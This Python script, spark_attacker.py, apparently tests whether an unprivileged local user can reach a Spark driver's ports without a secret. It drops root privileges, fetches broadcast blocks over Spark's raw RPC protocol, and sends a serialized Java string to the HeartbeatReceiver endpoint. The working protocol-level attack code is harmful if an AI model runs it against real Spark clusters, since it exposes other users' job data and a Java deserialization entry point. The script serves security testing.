"""What any user of this machine can send to the ports of a Spark driver: Spark's own protocol, without a secret.

A program of the standard library alone: ``python spark_attacker.py PORT...`` gives up its privileges, asks each port
for broadcast blocks, hands the first, of Spark's endpoints, a Java object, and prints as JSON what came back.

Source: ``MessageEncoder``, ``OpenBlocks``, ``StreamHandle``, ``ChunkFetchRequest``, ``RequestMessage`` of Spark.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
from pathlib import Path
from typing import BinaryIO

NO_PRODUCERS = 65534
BROADCASTS = 10
TIMEOUT_S = 120
CHUNK_FETCH, CHUNK, RPC, ANSWER = 0, 1, 3, 4


def listening_ports(pid: int) -> list[int]:
    """Return the TCP ports that the process ``pid`` listens at."""
    held = {str(path.readlink()) for path in Path(f"/proc/{pid}/fd").iterdir() if path.is_symlink()}
    ports = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and f"socket:[{fields[9]}]" in held:
                ports.add(int(fields[1].rpartition(":")[2], 16))
    return sorted(ports)


def _text(text: str) -> bytes:
    return struct.pack(">i", len(text)) + text.encode()


def _utf(text: str) -> bytes:
    return struct.pack(">H", len(text)) + text.encode()


def _send(peer: socket.socket, kind: int, body: bytes) -> None:
    peer.sendall(struct.pack(">qb", 9 + len(body), kind) + body)


def _call(peer: socket.socket, body: bytes) -> None:
    _send(peer, RPC, struct.pack(">qi", 1, len(body)) + body)


def _receive(peer: socket.socket) -> tuple[int, bytes]:
    """Return type and content of the next message; raises where a peer hung up."""
    stream = peer.makefile("rb")
    length, kind = struct.unpack(">qb", _exactly(stream, 9))
    return kind, _exactly(stream, length - 9)


def _exactly(stream: BinaryIO, size: int) -> bytes:
    found = stream.read(size)
    if len(found) != size:
        raise ConnectionError("hung up")
    return found


def fetched(port: int) -> tuple[list[bytes], bytes]:
    """Return the broadcast blocks that the block manager at ``port`` gives away, and what it refuses the rest with."""
    blocks, answer = [], b""
    for number in range(BROADCASTS):
        with socket.create_connection(("127.0.0.1", port), TIMEOUT_S) as peer:
            wanted = b"\0" + _text("app") + _text("1") + struct.pack(">i", 1) + _text(f"broadcast_{number}_piece0")
            _call(peer, wanted)
            kind, answer = _receive(peer)
            if kind != ANSWER:
                break
            # Request id, length, type of message, stream.
            _send(peer, CHUNK_FETCH, answer[13:21] + struct.pack(">i", 0))
            kind, answer = _receive(peer)
            if kind == CHUNK:
                blocks.append(answer[12:])
    return blocks, answer


def answer_to_an_object(port: int) -> bytes:
    """Return what the RPC environment at ``port`` answers to a Java object, a string, for one of its endpoints."""
    word = b"from a stranger"
    a_string = b"\xac\xed\x00\x05t" + struct.pack(">H", len(word)) + word
    with socket.create_connection(("127.0.0.1", port), TIMEOUT_S) as peer:
        receiver = b"\1" + _utf("127.0.0.1") + struct.pack(">i", port) + _utf("HeartbeatReceiver")
        _call(peer, b"\0" + receiver + a_string)
        return _receive(peer)[1]


def main(ports: list[int]) -> dict[str, list[str]]:
    """Try all ports."""
    tried = [fetched(port) for port in ports]
    return {
        "blocks": [block.decode("latin-1") for blocks, _ in tried for block in blocks],
        "refusals": [refusal.decode("latin-1") for _, refusal in tried],
        "answers": [answer_to_an_object(ports[0]).decode("latin-1")],
    }


if __name__ == "__main__":
    # Python may lie where no other user can read: what it would load late, it loads now.
    "".encode("idna")
    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(NO_PRODUCERS)
        os.setuid(NO_PRODUCERS)
    sys.stdout.write(json.dumps(main([int(port) for port in sys.argv[1:]])))
